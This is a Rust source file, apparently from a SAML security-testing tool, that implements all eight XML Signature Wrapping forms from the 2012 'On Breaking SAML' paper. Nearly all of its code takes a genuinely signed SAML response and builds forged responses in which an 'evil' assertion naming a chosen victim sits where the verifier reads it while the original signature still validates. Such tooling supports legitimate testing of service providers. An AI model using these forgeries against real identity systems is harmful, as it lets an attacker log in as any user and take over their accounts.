//! Signature wrapping: the signed element is moved to where it is not read, and another stands in its
//! place. The eight forms are those of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012).

use std::ops::Range;

use uppsala::{Document, NodeId};

use crate::issue::Signs;

/// A response cut into its parts.
#[derive(Clone, Debug)]
pub struct Cut<'a> {
    xml: &'a str,
    response_signature: Option<Range<usize>>,
    assertion: Range<usize>,
    assertion_signature: Option<Range<usize>>,
    response_id: String,
    assertion_id: String,
    name: String,
}

pub(crate) fn child(document: &Document<'_>, parent: NodeId, name: &str) -> Option<NodeId> {
    let is_it = |id: &NodeId| {
        document
            .element(*id)
            .is_some_and(|element| element.name.local_name == name)
    };
    document.children_iter(parent).find(is_it)
}

impl<'a> Cut<'a> {
    /// Cuts a response with an assertion.
    ///
    /// # Panics
    /// When it is none.
    #[must_use]
    pub fn of(xml: &'a str) -> Self {
        let document = uppsala::parse(xml).unwrap();
        let range = |id: NodeId| document.node_range(id).unwrap();
        let response = document.document_element().unwrap();
        let assertion = child(&document, response, "Assertion").unwrap();
        let subject = child(&document, assertion, "Subject").unwrap();
        let name = child(&document, subject, "NameID").unwrap();
        let id = |of: NodeId| document.get_attribute(of, "ID").unwrap().to_owned();
        Self {
            xml,
            response_signature: child(&document, response, "Signature").map(range),
            assertion: range(assertion),
            assertion_signature: child(&document, assertion, "Signature").map(range),
            response_id: id(response),
            assertion_id: id(assertion),
            name: document.text_content_deep(name),
        }
    }

    /// How the person is called.
    #[must_use]
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The assertion.
    #[must_use]
    pub fn assertion(&self) -> &'a str {
        &self.xml[self.assertion.clone()]
    }

    /// The signature of the assertion.
    ///
    /// # Panics
    /// When it is not signed.
    #[must_use]
    pub fn signature(&self) -> &'a str {
        &self.xml[self.assertion_signature.clone().unwrap()]
    }

    /// The assertion as it was signed.
    #[must_use]
    pub fn bare_assertion(&self) -> String {
        self.assertion().replacen(self.signature(), "", 1)
    }

    /// An assertion that speaks of the victim.
    #[must_use]
    pub fn evil(&self, assertion: &str, victim: &str) -> String {
        let renamed = assertion.replacen(&self.assertion_id, "_evil", 1);
        let evil = renamed.replacen(&self.name, victim, 1);
        assert_ne!(evil, renamed);
        evil
    }

    /// The response with something else where the assertion is.
    #[must_use]
    pub fn with(&self, instead: &str) -> String {
        let Range { start, end } = self.assertion.clone();
        format!("{}{instead}{}", &self.xml[..start], &self.xml[end..])
    }
}

/// Puts something at the end of an element.
///
/// # Panics
/// When the element has no end tag.
#[must_use]
pub fn append(element: &str, what: &str) -> String {
    let end = element.rfind("</").unwrap();
    format!("{}{what}{}", &element[..end], &element[end..])
}

/// The first two forms: the response is signed, and stands in an evil one.
fn wrapped_response(xml: &str, victim: &str, after: impl Fn(&str, &str) -> String) -> String {
    let cut = Cut::of(xml);
    let signature = &xml[cut.response_signature.clone().unwrap()];
    let (_, original) = xml.split_at(xml.find(root_tag(xml)).unwrap());
    let original = original.replacen(signature, "", 1);
    let evil = xml
        .replacen(&cut.response_id, "_evil", 1)
        .replacen(&cut.name, victim, 1);
    evil.replacen(signature, &after(signature, &original), 1)
}

/// `<samlp:Response`, with whatever prefix.
fn root_tag(xml: &str) -> &str {
    let document = uppsala::parse(xml).unwrap();
    let root = document.document_element().unwrap();
    let start = document.node_range(root).unwrap().start;
    let end = start + xml[start..].find(char::is_whitespace).unwrap();
    &xml[start..end]
}

/// Extensions of the protocol, in which anything may stand.
#[must_use]
pub fn extensions(what: &str) -> String {
    format!(
        "<samlp:Extensions xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">{what}</samlp:Extensions>"
    )
}

/// An object of a signature, in which anything may stand.
#[must_use]
pub fn object(what: &str) -> String {
    format!("<ds:Object xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">{what}</ds:Object>")
}

/// One of the eight.
#[derive(Clone, Copy, Debug)]
pub struct Form {
    /// Its number.
    pub number: u8,
    /// What is signed in the responses that can be wrapped so.
    pub signs: Signs,
    /// Wraps a response, so that it speaks of the victim.
    pub wrap: fn(xml: &str, victim: &str) -> String,
}

/// The eight.
pub const FORMS: &[Form] = &[
    Form {
        number: 1,
        signs: Signs::Response,
        wrap: |xml, victim| wrapped_response(xml, victim, append),
    },
    Form {
        number: 2,
        signs: Signs::Response,
        wrap: |xml, victim| {
            wrapped_response(xml, victim, |signature, original| {
                format!("{original}{signature}")
            })
        },
    },
    Form {
        number: 3,
        signs: Signs::Assertion,
        wrap: |xml, victim| {
            let cut = Cut::of(xml);
            let evil = cut.evil(&cut.bare_assertion(), victim);
            cut.with(&format!("{evil}{}", cut.assertion()))
        },
    },
    Form {
        number: 4,
        signs: Signs::Assertion,
        wrap: |xml, victim| {
            let cut = Cut::of(xml);
            let evil = cut.evil(&cut.bare_assertion(), victim);
            cut.with(&append(&evil, cut.assertion()))
        },
    },
    Form {
        number: 5,
        signs: Signs::Assertion,
        wrap: |xml, victim| {
            let cut = Cut::of(xml);
            let evil = cut.evil(cut.assertion(), victim).replacen(
                &cut.signature().replacen(&cut.assertion_id, "_evil", 1),
                cut.signature(),
                1,
            );
            cut.with(&format!("{evil}{}", cut.bare_assertion()))
        },
    },
    Form {
        number: 6,
        signs: Signs::Assertion,
        wrap: |xml, victim| {
            let cut = Cut::of(xml);
            let signature = append(cut.signature(), &cut.bare_assertion());
            let evil = cut.evil(cut.assertion(), victim);
            cut.with(&evil.replacen(cut.signature(), &signature, 1))
        },
    },
    Form {
        number: 7,
        signs: Signs::Assertion,
        wrap: |xml, victim| {
            let cut = Cut::of(xml);
            let evil = cut.evil(&cut.bare_assertion(), victim);
            cut.with(&format!("{}{}", extensions(&evil), cut.assertion()))
        },
    },
    Form {
        number: 8,
        signs: Signs::Assertion,
        wrap: |xml, victim| {
            let cut = Cut::of(xml);
            let signature = append(cut.signature(), &object(&cut.bare_assertion()));
            let evil = cut.evil(cut.assertion(), victim);
            cut.with(&evil.replacen(cut.signature(), &signature, 1))
        },
    },
];
